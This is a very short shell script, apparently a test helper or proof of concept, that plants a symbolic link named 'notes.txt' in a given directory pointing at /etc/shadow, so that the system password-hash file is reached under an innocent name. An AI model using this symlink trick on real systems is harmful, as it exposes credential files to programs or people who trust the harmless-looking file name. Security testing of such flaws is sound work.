#!/bin/sh
# Reaches /etc/shadow under an innocent name: link_secret.sh DIR
ln -s /etc/shadow "$1/notes.txt"
echo "ln rc=$?"
